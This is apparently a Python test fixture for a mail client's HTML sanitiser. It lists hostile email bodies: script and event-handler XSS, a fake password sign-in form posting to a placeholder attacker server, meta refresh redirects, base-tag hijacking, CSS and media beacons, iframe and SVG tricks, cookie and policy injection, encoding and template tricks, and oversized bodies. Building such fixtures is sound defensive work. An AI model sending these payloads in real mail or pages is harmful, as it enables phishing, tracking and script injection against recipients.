# ruff: noqa: E501
"""Bodies of mail that try to run, to call somebody, or to leave their frame. `{to}` is a server of the attacker."""

from __future__ import annotations

BODIES = {
    "script": "<script>alert(1);fetch('{to}/script')</script><script src='{to}/a.js'></script>",
    "events": (
        "<img src=x onerror=alert(1)><body onload=alert(2)><svg onload=alert(3)><input autofocus onfocus=alert(4)>"
        "<details open ontoggle=alert(5)>x</details><video onerror=alert(6)><source src=x></video>"
        "<style>@keyframes a{{}}</style><p style='animation:a 1s' onanimationstart=alert(7)>x"
    ),
    "refresh": "<meta http-equiv=refresh content='0;url={to}/refresh'><meta http-equiv=refresh content='0;url=/sign-in'>",
    "refresh to a script": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "form": (
        "<form id=f action='{to}/form' target=_top><input name=password type=password autofocus>"
        "<button>Sign in</button></form><button form=f formaction='{to}/formaction'>Go</button>"
    ),
    "form of the console": "<form action='/function/console/sign-out' method=post target=_top><button>Sign in</button></form>",
    "base": "<base href='{to}/base/' target=_top><img src=pixel.png><a href=more>more</a>",
    "links": (
        "<a href='{to}/link' target=_top>top</a><a href='{to}/blank' target=_blank ping='{to}/ping'>new</a>"
        "<a href='{to}/self'>self</a><a href='javascript:alert(1)'>script</a><a href='/function/console/'>home</a>"
        "<a href='data:text/html,<script>alert(1)</script>'>data</a><a href='{to}/file' download>file</a>"
    ),
    "svg": (
        "<svg><script>alert(1)</script><image href='{to}/svg.png'/><use href='{to}/svg.svg#a'/>"
        "<foreignObject><iframe src='{to}/foreign'></iframe></foreignObject>"
        "<a href='javascript:alert(2)'><text y=20>x</text></a><animate attributeName=href values='javascript:alert(3)'/></svg>"
    ),
    "svg as an image": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>"
        "<image href='{to}/data-svg.png'/></svg>\">"
    ),
    "frames": (
        "<iframe src='{to}/frame'></iframe><iframe src='javascript:alert(1)'></iframe>"
        "<iframe srcdoc='<script>alert(2)</script><img src={to}/srcdoc.png>'></iframe>"
        "<object data='{to}/object'></object><embed src='{to}/embed'><frameset><frame src='{to}/frameset'></frameset>"
    ),
    "style": (
        "<style>@import '{to}/import.css';@font-face{{font-family:f;src:url({to}/font)}}"
        "body{{background:url({to}/background.png);font-family:f;cursor:url({to}/cursor),auto}}"
        "p::before{{content:url({to}/content.png)}}li{{list-style-image:url({to}/list.png)}}</style>"
        "<p style='background-image:url({to}/inline.png);position:fixed;inset:0;z-index:99999'>over all<li>x"
        "<link rel=stylesheet href='{to}/sheet.css'>"
    ),
    "hints": (
        "<link rel=preconnect href='{to}'><link rel=dns-prefetch href='{to}'><link rel=prefetch href='{to}/prefetch'>"
        "<link rel=preload as=image href='{to}/preload.png'><link rel=modulepreload href='{to}/module.js'>"
        "<link rel=prerender href='{to}/prerender'><link rel=icon href='{to}/icon.png'><link rel=manifest href='{to}/m'>"
    ),
    "media": (
        "<img src='{to}/img.png' srcset='{to}/2x.png 2x' lowsrc='{to}/low.png'><video src='{to}/video' poster='{to}/poster' autoplay></video>"
        "<audio src='{to}/audio' autoplay></audio><picture><source srcset='{to}/picture.png'><img></picture>"
        "<table background='{to}/table.png'><td background='{to}/td.png'></table><input type=image src='{to}/input.png'>"
        "<track src='{to}/track'><body background='{to}/body.png'>"
    ),
    "policy of its own": (
        "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
        "<meta http-equiv=Set-Cookie content='mailroom-session=stolen'><script>alert(1)</script>"
    ),
    "ends of other elements": "</iframe></pre></main></body></html><script>alert(1)</script><img src='{to}/after.png'>",
    "unclosed": "<!-- <plaintext><textarea><title><style><script>alert(1)",
    "template": "{{{{7*7}}}}{{% include 'x' %}}${{7*7}}<div hx-get='{to}/hx' hx-trigger=load data-focus tabindex=0>x</div>",
    "bytes of other character sets": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta charset=utf-7>\ufeff\u202eevil\u2028",
    "huge": "<p>long " * 3_000 + "<img src='{to}/huge.png'>" + "x" * 300_000,
    "deep": "<div>" * 3_000 + "<img src='{to}/deep.png'>",
}  # fmt: skip


def bodies(attacker: str) -> dict[str, str]:
    """Each body, with the URL of the attacker's server in it."""
    return {name: body.format(to=attacker) for name, body in BODIES.items()}
